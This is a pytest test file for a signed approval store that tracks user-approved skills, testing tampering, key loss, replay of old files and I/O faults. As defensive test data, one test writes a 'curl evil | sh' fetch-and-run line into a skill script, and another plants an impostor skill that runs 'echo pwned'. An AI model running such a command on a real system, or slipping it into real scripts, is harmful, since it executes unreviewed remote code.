"""The signed approval store: round trips, tampering, lost keys, I/O faults."""

from __future__ import annotations

import json
import os
import stat
from datetime import datetime
from pathlib import Path

import keyring
import pytest
from filelock import FileLock

from gibberish import paths
from gibberish.trust import approvals as approvals_module
from gibberish.trust.approvals import ApprovalRecord, ApprovalStore, KeyProvider
from gibberish.trust.fingerprint import fingerprint
from gibberish.trust.keys import GENERATION_USERNAME, SERVICE, USERNAME

from .conftest import BrokenKeyring, InsecureKeyring, MemoryKeyring, write_skill


@pytest.fixture
def store(memory_keyring: MemoryKeyring) -> ApprovalStore:
    return ApprovalStore()


def bad_files(path: Path) -> list[Path]:
    return sorted(path.parent.glob(path.name + ".bad-*"))


def test_default_location_is_the_data_folder(store: ApprovalStore) -> None:
    assert store.path == paths.data_dir() / "approvals.json"


def test_approve_then_state_for_list_revoke_reset(store: ApprovalStore, skill_dir: Path) -> None:
    fp = fingerprint(skill_dir)
    assert store.state_for("demo", fp).approved is False
    assert store.state_for("demo", fp).changed_files is None

    store.approve("demo", fp, skill_dir=skill_dir)
    assert store.state_for("demo", fp).approved is True
    assert ApprovalStore().state_for("demo", fp).approved is True  # persisted

    [record] = store.list()
    assert isinstance(record, ApprovalRecord)
    assert (record.skill, record.digest, record.path) == ("demo", fp.digest, skill_dir)
    assert isinstance(record.approved_at, datetime) and record.approved_at.tzinfo is not None
    assert dict(record.files) == dict(fp.files)

    assert store.revoke("demo") is True
    assert store.revoke("demo") is False
    assert store.state_for("demo", fp).approved is False

    store.approve("demo", fp)
    store.approve("other", fp)
    store.reset()
    assert store.list() == []
    assert not store.path.exists()
    assert store.notices() == []


def test_a_change_after_approval_asks_again_and_says_what_changed(
    store: ApprovalStore, skill_dir: Path
) -> None:
    store.approve("demo", fingerprint(skill_dir))
    (skill_dir / "scripts" / "run.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    state = store.state_for("demo", fingerprint(skill_dir))
    assert state.approved is False
    assert state.changed_files is not None
    assert state.changed_files.modified == ("scripts/run.sh",)
    assert not state.changed_files.added and not state.changed_files.removed


def test_a_skill_renamed_to_an_approved_name_is_not_approved(
    store: ApprovalStore, tmp_path: Path
) -> None:
    skills = tmp_path / "skills"
    good = write_skill(skills, "good")
    store.approve("good", fingerprint(good), skill_dir=good)
    # another skill takes the approved skill's folder and name
    impostor = write_skill(tmp_path / "elsewhere", "impostor", body="echo pwned")
    good.rename(tmp_path / "good-old")
    impostor.rename(good)
    text = (good / "SKILL.md").read_text().replace("name: impostor", "name: good")
    (good / "SKILL.md").write_text(text)
    assert store.state_for("good", fingerprint(good)).approved is False


def test_approvals_are_per_name(store: ApprovalStore, skill_dir: Path) -> None:
    fp = fingerprint(skill_dir)
    store.approve("demo", fp)
    assert store.state_for("someone-else", fp).approved is False


def test_file_is_signed_json_readable_by_people_and_private(
    store: ApprovalStore, skill_dir: Path
) -> None:
    fp = fingerprint(skill_dir)
    store.approve("demo", fp, skill_dir=skill_dir)
    document = json.loads(store.path.read_text())
    assert set(document) == {"format", "generation", "approvals", "signature"}
    assert document["format"] == 2
    assert document["generation"] == 1
    entry = document["approvals"]["demo"]
    assert entry["digest"] == fp.digest
    assert entry["files"] == dict(fp.files)
    assert entry["path"] == str(skill_dir)
    assert len(document["signature"]) == 64
    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600


# -- tampering ------------------------------------------------------------------------


def _tamper_edit_value(path: Path) -> None:
    document = json.loads(path.read_text())
    document["approvals"]["demo"]["digest"] = "0" * 64
    path.write_text(json.dumps(document))


def _tamper_add_entry(path: Path) -> None:
    document = json.loads(path.read_text())
    document["approvals"]["evil"] = dict(document["approvals"]["demo"])
    path.write_text(json.dumps(document))


def _tamper_truncate(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _tamper_not_json(path: Path) -> None:
    path.write_bytes(b"\x00\xffnot json at all")


def _tamper_empty(path: Path) -> None:
    path.write_bytes(b"")


def _tamper_wrong_signature(path: Path) -> None:
    document = json.loads(path.read_text())
    document["signature"] = "ab" * 32
    path.write_text(json.dumps(document))


def _tamper_no_signature(path: Path) -> None:
    document = json.loads(path.read_text())
    del document["signature"]
    path.write_text(json.dumps(document))


def _tamper_json_list(path: Path) -> None:
    path.write_text("[1, 2, 3]")


TAMPERINGS = [
    _tamper_edit_value,
    _tamper_add_entry,
    _tamper_truncate,
    _tamper_not_json,
    _tamper_empty,
    _tamper_wrong_signature,
    _tamper_no_signature,
    _tamper_json_list,
]


@pytest.mark.parametrize("tamper", TAMPERINGS, ids=lambda f: f.__name__[len("_tamper_") :])
def test_a_tampered_file_counts_as_empty_is_kept_aside_and_said_once(
    store: ApprovalStore, skill_dir: Path, tamper
) -> None:
    fp = fingerprint(skill_dir)
    store.approve("demo", fp)
    tamper(store.path)
    tampered = store.path.read_bytes()

    assert store.state_for("demo", fp).approved is False
    assert store.state_for("evil", fp).approved is False
    notices = store.notices()
    assert len(notices) == 1
    assert "failed its signature check" in notices[0]
    assert "no skill were approved" in notices[0]
    [bad] = bad_files(store.path)
    assert str(bad) in notices[0]
    assert bad.read_bytes() == tampered  # kept, not deleted
    assert store.list() == []
    assert store.notices() == []  # drained, and nothing new happened

    # the store works again afterwards, without touching the kept file
    store.approve("demo", fp)
    assert store.state_for("demo", fp).approved is True
    assert bad.read_bytes() == tampered
    assert store.notices() == []


def test_a_file_signed_with_another_key_counts_as_empty(
    tmp_path: Path, skill_dir: Path, memory_keyring: MemoryKeyring
) -> None:
    fp = fingerprint(skill_dir)
    path = tmp_path / "approvals.json"
    other_machine = ApprovalStore(path, key_provider=KeyProvider(backend=MemoryKeyring()))
    other_machine.approve("demo", fp)
    mine = ApprovalStore(path, key_provider=KeyProvider(backend=memory_keyring))
    assert mine.state_for("demo", fp).approved is False
    assert any("signed with another key" in n for n in mine.notices())
    assert len(bad_files(path)) == 1


def test_a_deleted_key_means_a_new_key_and_no_approvals(
    store: ApprovalStore, skill_dir: Path, memory_keyring: MemoryKeyring
) -> None:
    fp = fingerprint(skill_dir)
    store.approve("demo", fp)
    old_key = memory_keyring.passwords[(SERVICE, USERNAME)]
    keyring.delete_password(SERVICE, USERNAME)

    fresh = ApprovalStore()  # a new process, in effect
    assert fresh.state_for("demo", fp).approved is False
    [notice] = fresh.notices()
    assert "failed its signature check" in notice
    assert memory_keyring.passwords[(SERVICE, USERNAME)] != old_key
    fresh.approve("demo", fp)
    assert ApprovalStore().state_for("demo", fp).approved is True


def test_the_key_is_created_once_in_the_keyring_as_hex(
    store: ApprovalStore, skill_dir: Path, memory_keyring: MemoryKeyring
) -> None:
    store.approve("demo", fingerprint(skill_dir))
    stored = memory_keyring.passwords[(SERVICE, USERNAME)]
    assert len(bytes.fromhex(stored)) == 32
    ApprovalStore().approve("other", fingerprint(skill_dir))
    assert memory_keyring.passwords[(SERVICE, USERNAME)] == stored
    assert not (store.path.parent / "approvals.key").exists()
    assert store.notices() == []


def test_a_damaged_key_in_the_keyring_is_replaced_with_a_notice(
    memory_keyring: MemoryKeyring, skill_dir: Path
) -> None:
    memory_keyring.passwords[(SERVICE, USERNAME)] = "not hex"
    provider = KeyProvider()
    assert len(provider.key()) == 32
    assert any("unreadable in the keyring" in n for n in provider.notices())


# -- faults ---------------------------------------------------------------------------


def test_a_failing_secure_keyring_means_not_approved_and_keeps_the_file(
    tmp_path: Path, skill_dir: Path
) -> None:
    fp = fingerprint(skill_dir)
    path = tmp_path / "approvals.json"
    working = MemoryKeyring()
    ApprovalStore(path, key_provider=KeyProvider(backend=working)).approve("demo", fp)
    before = path.read_bytes()

    locked = ApprovalStore(path, key_provider=KeyProvider(backend=BrokenKeyring()))
    assert locked.state_for("demo", fp).approved is False
    locked.approve("other", fp)  # does not raise
    assert locked.revoke("demo") is False
    assert locked.list() == []
    notices = locked.notices()
    assert any("keyring did not answer" in n for n in notices)
    assert any("could not be saved" in n for n in notices)
    assert path.read_bytes() == before  # not quarantined, not rewritten: the key is just away
    assert bad_files(path) == []
    assert not (tmp_path / "approvals.key").exists()  # no silent switch to a file key


def test_io_errors_become_notices_not_exceptions(
    memory_keyring: MemoryKeyring, tmp_path: Path, skill_dir: Path
) -> None:
    fp = fingerprint(skill_dir)
    path = tmp_path / "approvals.json"
    path.mkdir()  # reading it fails with IsADirectoryError
    store = ApprovalStore(path)
    assert store.state_for("demo", fp).approved is False
    store.approve("demo", fp)
    assert store.revoke("demo") is False
    store.reset()
    assert store.list() == []
    notices = store.notices()
    assert notices and all(str(path) in n for n in notices)


def test_a_provider_that_raises_anything_does_not_crash_the_caller(
    tmp_path: Path, skill_dir: Path
) -> None:
    class Exploding(KeyProvider):
        def key(self) -> bytes:
            raise RuntimeError("boom")

    store = ApprovalStore(tmp_path / "a.json", key_provider=Exploding())
    assert store.state_for("demo", fingerprint(skill_dir)).approved is False
    assert store.notices()


def test_a_lock_held_too_long_means_not_approved_with_a_notice(
    store: ApprovalStore, skill_dir: Path
) -> None:
    fp = fingerprint(skill_dir)
    store.approve("demo", fp)
    impatient = ApprovalStore(lock_timeout=0.1)
    with FileLock(str(store.path) + ".lock"):
        assert impatient.state_for("demo", fp).approved is False
    assert any("stayed locked" in n for n in impatient.notices())
    assert impatient.state_for("demo", fp).approved is True


def test_stale_temp_files_from_a_killed_writer_are_cleaned(
    store: ApprovalStore, skill_dir: Path
) -> None:
    fp = fingerprint(skill_dir)
    store.approve("demo", fp)
    stale = store.path.parent / ".approvals.json.abc123.tmp"
    stale.write_text("half a fil")
    assert store.state_for("demo", fp).approved is True
    assert not stale.exists()


def test_notices_are_not_repeated_for_a_persisting_condition(
    tmp_path: Path, skill_dir: Path
) -> None:
    path = tmp_path / "approvals.json"
    store = ApprovalStore(path, key_provider=KeyProvider(backend=BrokenKeyring()))
    fp = fingerprint(skill_dir)
    for _ in range(3):
        store.state_for("demo", fp)
    assert len(store.notices()) == 1
    store.state_for("demo", fp)
    assert store.notices() == []


def test_run_once_is_not_the_stores_business(store: ApprovalStore, skill_dir: Path) -> None:
    # Only approve() writes; nothing else (state_for, list) creates the file.
    fp = fingerprint(skill_dir)
    store.state_for("demo", fp)
    store.list()
    assert not store.path.exists()


def test_key_file_fallback_is_used_with_an_insecure_default_keyring(
    skill_dir: Path,
) -> None:
    # conftest selects keyrings.alt's PlaintextKeyring, which is not secure.
    store = ApprovalStore()
    fp = fingerprint(skill_dir)
    store.approve("demo", fp)
    key_file = paths.data_dir() / "approvals.key"
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    [notice] = store.notices()
    assert "No secure keyring" in notice and str(key_file) in notice
    assert ApprovalStore().state_for("demo", fp).approved is True
    assert os.listdir(paths.data_dir()).count("approvals.key") == 1


def _tamper_deeply_nested(path: Path) -> None:
    path.write_text("[" * 100_000 + "]" * 100_000)


def test_a_pathological_file_does_not_crash_the_caller(
    store: ApprovalStore, skill_dir: Path
) -> None:
    fp = fingerprint(skill_dir)
    store.approve("demo", fp)
    _tamper_deeply_nested(store.path)
    assert store.state_for("demo", fp).approved is False
    assert any("not valid JSON" in n for n in store.notices())


# -- replay of an old signed file (generation counter) ----------------------------------


def _providers(tmp_path: Path):
    """A keyring-backed provider and a key-file one, each with a fresh data folder."""
    keyring_dir, file_dir = tmp_path / "k", tmp_path / "f"
    return [
        KeyProvider(key_file=keyring_dir / "approvals.key", backend=MemoryKeyring()),
        KeyProvider(key_file=file_dir / "approvals.key", backend=InsecureKeyring()),
    ]


@pytest.mark.parametrize("which", [0, 1], ids=["keyring", "key-file"])
def test_an_old_signed_copy_put_back_does_not_bring_back_a_revoked_approval(
    tmp_path: Path, skill_dir: Path, which: int
) -> None:
    # M4: the old file is correctly signed, so only the counter can tell it is stale.
    provider = _providers(tmp_path)[which]
    path = provider.key_file.with_name("approvals.json")
    store = ApprovalStore(path, key_provider=provider)
    fp = fingerprint(skill_dir)
    store.approve("demo", fp)
    store.approve("other", fp)
    old_copy = path.read_bytes()
    assert store.revoke("demo") is True
    store.notices()

    path.write_bytes(old_copy)  # put back
    fresh = ApprovalStore(path, key_provider=provider)
    assert fresh.state_for("demo", fp).approved is False
    assert fresh.state_for("other", fp).approved is False  # the whole old file is out
    [notice] = [n for n in fresh.notices() if "No secure keyring" not in n]
    assert "older copy" in notice and "generation 2, expected 3" in notice
    [bad] = bad_files(path)
    assert bad.read_bytes() == old_copy and str(bad) in notice

    # the store carries on from there, and the counter never goes back
    fresh.approve("demo", fp)
    assert json.loads(path.read_text())["generation"] == 4
    assert provider.generation() == 4
    assert fresh.state_for("demo", fp).approved is True


def test_every_write_raises_the_generation_in_the_file_and_the_keyring(
    tmp_path: Path, skill_dir: Path
) -> None:
    backend = MemoryKeyring()
    path = tmp_path / "approvals.json"
    store = ApprovalStore(path, key_provider=KeyProvider(backend=backend))
    fp = fingerprint(skill_dir)
    for expected, action in enumerate(
        [
            lambda: store.approve("a", fp),
            lambda: store.approve("b", fp),
            lambda: store.revoke("a"),
            lambda: store.approve("a", fp),
        ],
        start=1,
    ):
        action()
        assert json.loads(path.read_text())["generation"] == expected
        assert backend.passwords[(SERVICE, GENERATION_USERNAME)] == str(expected)
    assert store.revoke("nope") is False  # nothing changed: nothing written
    assert backend.passwords[(SERVICE, GENERATION_USERNAME)] == "4"
    store.state_for("a", fp)
    store.list()  # reads do not raise it
    assert backend.passwords[(SERVICE, GENERATION_USERNAME)] == "4"
    store.reset()
    store.approve("a", fp)  # after a reset, counting goes on (an old copy stays old)
    assert json.loads(path.read_text())["generation"] == 5


def test_the_generation_is_signed(store: ApprovalStore, skill_dir: Path) -> None:
    fp = fingerprint(skill_dir)
    store.approve("demo", fp)
    document = json.loads(store.path.read_text())
    document["generation"] = 99
    store.path.write_text(json.dumps(document))
    assert store.state_for("demo", fp).approved is False
    assert any("failed its signature check" in n for n in store.notices())


def test_a_file_ahead_of_the_counter_is_accepted_and_the_counter_catches_up(
    tmp_path: Path, skill_dir: Path
) -> None:
    # A writer killed after writing the file but before recording its generation.
    provider = KeyProvider(backend=MemoryKeyring())
    store = ApprovalStore(tmp_path / "approvals.json", key_provider=provider)
    fp = fingerprint(skill_dir)
    store.approve("demo", fp)
    store.approve("demo2", fp)
    provider.set_generation(1)
    assert store.state_for("demo2", fp).approved is True
    assert provider.generation() == 2
    assert store.notices() == []


def test_a_missing_counter_accepts_the_file_and_starts_counting(
    tmp_path: Path, skill_dir: Path
) -> None:
    backend = MemoryKeyring()
    provider = KeyProvider(backend=backend)
    path = tmp_path / "approvals.json"
    store = ApprovalStore(path, key_provider=provider)
    fp = fingerprint(skill_dir)
    store.approve("demo", fp)
    old_copy = path.read_bytes()
    store.approve("other", fp)
    del backend.passwords[(SERVICE, GENERATION_USERNAME)]

    assert store.state_for("other", fp).approved is True
    assert provider.generation() == 2
    path.write_bytes(old_copy)
    assert store.state_for("demo", fp).approved is False
    assert any("older copy" in n for n in store.notices())


def _legacy_file(path: Path, approvals: dict, key: bytes) -> bytes:
    """A ``format: 1`` file, as written before the generation counter existed."""
    payload = {"format": 1, "approvals": approvals}
    document = {**payload, "signature": approvals_module._sign(payload, key)}
    data = json.dumps(document, sort_keys=True, indent=2).encode()
    path.write_bytes(data)
    return data


def test_a_file_from_before_generations_is_upgraded_and_cannot_be_put_back(
    tmp_path: Path, skill_dir: Path
) -> None:
    provider = KeyProvider(backend=MemoryKeyring())
    path = tmp_path / "approvals.json"
    fp = fingerprint(skill_dir)
    entry = {
        "digest": fp.digest,
        "files": dict(fp.files),
        "approved_at": "2025-01-31T09:12:44+00:00",
        "path": None,
    }
    legacy = _legacy_file(path, {"demo": entry}, provider.key())

    store = ApprovalStore(path, key_provider=provider)
    assert store.state_for("demo", fp).approved is True  # accepted once, on upgrade
    document = json.loads(path.read_text())
    assert (document["format"], document["generation"]) == (2, 1)
    assert provider.generation() == 1
    assert store.notices() == []

    store.revoke("demo")
    path.write_bytes(legacy)  # the pre-upgrade copy, put back
    assert store.state_for("demo", fp).approved is False
    assert any("old format" in n for n in store.notices())


def test_a_failing_counter_means_not_approved_with_a_notice(
    tmp_path: Path, skill_dir: Path
) -> None:
    class CounterDown(MemoryKeyring):
        def get_password(self, service: str, username: str) -> str | None:
            if username == GENERATION_USERNAME:
                raise keyring.errors.KeyringLocked("locked")
            return super().get_password(service, username)

    backend = MemoryKeyring()
    path = tmp_path / "approvals.json"
    fp = fingerprint(skill_dir)
    ApprovalStore(path, key_provider=KeyProvider(backend=backend)).approve("demo", fp)
    broken = CounterDown()
    broken.passwords = dict(backend.passwords)
    store = ApprovalStore(path, key_provider=KeyProvider(backend=broken))
    assert store.state_for("demo", fp).approved is False
    assert any("keyring did not answer" in n for n in store.notices())
    assert bad_files(path) == []  # the file is fine; only the counter is away
